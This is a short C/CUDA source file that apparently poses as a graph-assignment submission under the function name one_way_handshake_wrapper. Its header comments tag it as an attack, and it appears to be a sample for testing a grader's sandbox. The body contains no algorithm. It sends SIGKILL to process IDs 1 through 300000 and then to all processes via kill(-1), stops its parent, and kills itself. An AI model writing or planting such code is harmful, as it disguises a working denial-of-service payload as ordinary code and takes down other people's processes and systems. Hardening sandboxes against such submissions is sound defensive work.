// attack: survive
// root: resources
// what: kills its parent, the first process and all others that it may
// list: 12
#include <signal.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  for (int pid = 1; pid < 300000; pid++)
    if (pid != getpid()) kill(pid, SIGKILL);
  kill(getppid(), SIGSTOP);
  kill(-1, SIGKILL);
  kill(getpid(), SIGKILL);
}
